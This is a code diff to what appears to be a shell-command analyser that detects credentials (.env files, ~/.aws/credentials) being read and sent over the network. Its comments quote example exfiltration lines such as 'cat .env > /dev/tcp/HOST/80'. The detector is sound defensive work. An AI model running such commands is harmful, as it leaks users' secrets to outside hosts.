@@ -73,6 +73,18 @@ def secret_file(an: Walk, value: str | None) -> str | None:
     return str(found) if found else None
 
 
+def home(field: str | None, raw: str) -> str | None:
+    """A field, or for one known only at run time a path under the home spelled with ``$HOME``
+    (``"$HOME/.aws/credentials"`` is ``~/.aws/credentials``)."""
+    if field is not None:
+        return field
+    text = raw.replace('"', "")
+    for head in ("$HOME/", "${HOME}/"):
+        if text.startswith(head) and "$" not in text[len(head):] and "`" not in text:
+            return "~/" + text[len(head):]
+    return None
+
+
 def secret_variable(an: Walk, name: str) -> bool:
     ask = getattr(an.check, "secret_variable", None)
     return bool(ask is not None and name and ask(name))
@@ -133,12 +145,12 @@ def word(an: Walk, raw: str, field: str | None = None) -> list[tuple[str, str]]:
     state = an.flow
     for name in references(raw):
         if state is not None and name in state.vars:
-            found.extend((label, f"${name}, assigned from it") for label in state.vars[name])
+            found.extend((label, f"through ${name}") for label in state.vars[name])
         elif secret_variable(an, name):
             found.append((f"${name}", "environment variable"))
         elif state is not None and state.sourced and name not in an.vars and \
                 name not in _AMBIENT:
-            found.extend((label, f"${name}, set by sourcing it") for label in state.sourced)
+            found.extend((label, f"through ${name}, which sourcing it set") for label in state.sourced)
     if state is not None and ("$(" in raw or "`" in raw or "<(" in raw):
         for text, labels in state.reads:
             if text and text in raw:
@@ -161,7 +173,7 @@ def stdin(an: Walk, cmd: Simple | None) -> list[tuple[str, str]]:
     state = an.flow
     for redir in cmd.redirs:
         if redir.op in ("<", "<&") and redir.target is not None:
-            value = an.expand_one(redir.target.parts)
+            value = home(an.expand_one(redir.target.parts), word_text(redir.target))
             label = secret_file(an, value)
             if label is not None:
                 found.append((label, f"the secret file {word_text(redir.target)}"))
@@ -181,8 +193,10 @@ def stdin(an: Walk, cmd: Simple | None) -> list[tuple[str, str]]:
 
 # --- one command --------------------------------------------------------------------------------
 def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
-            cmd: Simple | None) -> None:
-    """What the command ``fields`` (resolved: its wrappers peeled) reads and carries."""
+            cmd: Simple | None, mark: int = 0, files: bool = True) -> None:
+    """What the command ``fields`` (resolved: its wrappers peeled) reads and carries. ``mark``:
+    the acts before its own (a network act after it makes the command a request); ``files``:
+    whether its arguments name local files."""
     table = an.shell.get("secret_flow") or {}
     sub = fields[1] if len(fields) > 1 else None
     metadata = base in table.get("metadata", ()) or f"{base} {sub}" in table.get("metadata", ())
@@ -194,12 +208,13 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
     for k, (field, raw) in enumerate(zip(fields[1:], raws[1:], strict=False), 1):
         text = raw if field is None else field
         where = _where(option, text, base, an.shell)
-        used = option in credentials or k in written
+        used = option in credentials or k in written or text.split("=", 1)[0] in credentials
         option = text if text[:1] == "-" and "=" not in text else None
-        if not metadata and not used:
-            label = secret_file(an, paths(field))
+        if files and not metadata and not used:
+            path = paths(home(field, raw))
+            label = secret_file(an, path)
             if label is not None:
-                named.append((label, f"the secret file {paths(field)}", where))
+                named.append((label, f"the secret file {path}", where))
         carried.extend((label, how, where) for label, how in word(an, raw, field))
     fed = [(label, how, "on standard input") for label, how in stdin(an, cmd)]
     dumped = _dump(an, base, fields, table)
@@ -208,10 +223,9 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
             fields[2] in state.remotes:              # git push origin: origin's URL holds it
         carried.extend((label, f"the URL of the remote {fields[2]}", "in the remote's URL")
                        for label in state.remotes[str(fields[2])][0])
-    hosts, sink = _sink(an, base, fields, raws, seg, cmd, table)
+    hosts, sink, connection = _sink(an, base, fields, raws, seg, cmd, table, mark)
     everything = [*named, *carried, *fed]
-    if sink and base not in table.get("sinks", ()) and \
-            not any((p, seg) in an.seen for p in NETWORK):     # cat .env > /dev/tcp/HOST/80
+    if connection:                               # cat .env > /dev/tcp/HOST/80
         everything = [(label, how, "through the connection") for label, how, _w in everything]
     source = cmd.piped_from if cmd is not None else None
     if state is not None and source is not None and id(source) in state.pending and (
@@ -222,7 +236,8 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
         everything.extend(shaped)
         _exfiltration(an, base, seg, everything, hosts)
     else:
-        _reading(an, base, seg, cmd, named, carried, fed, dumped, metadata)
+        redirected = [c for c in fed if c[1].startswith("the secret file")]   # jq . < .env
+        _reading(an, base, seg, cmd, [*named, *redirected], carried, fed, dumped, metadata)
     labels = list(dict.fromkeys([*(c[0] for c in everything), *dumped]))
     if not labels:
         return
@@ -244,6 +259,8 @@ def _where(option: str | None, text: str, base: str, shell: dict[str, Any]) -> s
     if option is None and text[:2] == "--" and "=" in text:
         option = text.split("=", 1)[0]
     if option is not None:
+        if option[:2] != "--" and len(option) > 2:    # -sH VALUE: the last letter takes it
+            option = "-" + option[-1]
         if option in _HEADERS:
             return "in a header"
         spec = (shell.get("commands") or {}).get(base) or {}
@@ -270,9 +287,10 @@ def _dump(an: Walk, base: str, fields: list[str | None], table: dict[str, Any]) 
 
 
 def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
-          cmd: Simple | None, table: dict[str, Any]) -> tuple[list[str], bool]:
-    """The hosts a network program reaches ("?" for one known only at run time), and whether
-    the command is one."""
+          cmd: Simple | None, table: dict[str, Any], mark: int
+          ) -> tuple[list[str], bool, bool]:
+    """The hosts a network program reaches ("?" for one known only at run time), whether the
+    command is one, and whether only through a ``/dev/tcp`` redirection."""
 
     hosts: list[str] = []
     for redir in cmd.redirs if cmd is not None else ():
@@ -281,10 +299,13 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
             if value is not None and value.startswith(("/dev/tcp/", "/dev/udp/")):
                 hosts.append(value.split("/")[3] or "?" if value.count("/") >= 3 else "?")
     dns = base in table.get("sinks", ())
-    network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
-    if not hosts and not dns and not network:
-        return [], False
     spec = (an.shell.get("commands") or {}).get(base) or {}
+    network = [a for a in an.acts[mark:] if a.primitive in NETWORK]
+    if not network and spec.get("requests"):       # a second request in one segment
+        network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
+    if not hosts and not dns and not network:
+        return [], False, False
+    connection = not dns and not network
     default = table.get("default_hosts", {}).get(base)
     if default is not None:                     # gh pr list: api.github.com
         hosts.append(default)
@@ -311,7 +332,7 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
     hosts = list(dict.fromkeys(hosts)) or ["?"]
     for act in network:
         act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
-    return hosts, True
+    return hosts, True, connection
 
 
 def _urls(spec: dict[str, Any], argv: Any) -> list[tuple[str | None, str]]:
@@ -388,9 +409,33 @@ def _shaped(raws: list[str]) -> list[Carried]:
 
     found: list[Carried] = []
     for raw in raws[1:]:
-        for kind in kinds(raw):
+        for kind in kinds(_literal(raw)):
             found.append((f"a literal {kind}", "written in the command", "in the arguments"))
     return found
+
+
+def _literal(raw: str) -> str:
+    """A word's text without its expansions (``k=${TOKEN:-none}`` is ``k= ``)."""
+    if "$" not in raw and "`" not in raw:
+        return raw
+    out: list[str] = []
+    k, n = 0, len(raw)
+    while k < n:
+        c = raw[k]
+        if c in "$`":
+            close = {"{": "}", "(": ")"}.get(raw[k + 1:k + 2]) if c == "$" else "`"
+            if close is not None:
+                end = raw.find(close, k + 2 if c == "$" else k + 1)
+                k = n if end < 0 else end + 1
+            else:
+                k += 1
+                while k < n and (raw[k].isalnum() or raw[k] == "_"):
+                    k += 1
+            out.append(" ")
+            continue
+        out.append(c)
+        k += 1
+    return "".join(out)
 
 
 def _exfiltration(an: Walk, base: str, seg: str, carried: list[Carried],
@@ -444,6 +489,15 @@ def _reading(an: Walk, base: str, seg: str, cmd: Simple | None, named: list[Carr
         _read(an, seg, reason, labels)
         if cmd is not None and not _redirected(an, cmd):
             flow(an).pending[id(cmd)] = (seg, reason)
+
+
+def compound(an: Walk, value: str | None, raw: str, seg: str) -> None:
+    """``while read l; do ...; done < .env``: the loop's input is a secret file (the commands
+    inside are read before the redirection, so what they do with it is not followed)."""
+    label = secret_file(an, home(value, raw))
+    if label is not None:
+        _read(an, seg, f"the commands read {raw}, which holds credentials (secrets.paths: "
+                       f"{label})", [label])
 
 
 def _read(an: Walk, seg: str, reason: str, labels: list[str]) -> None:
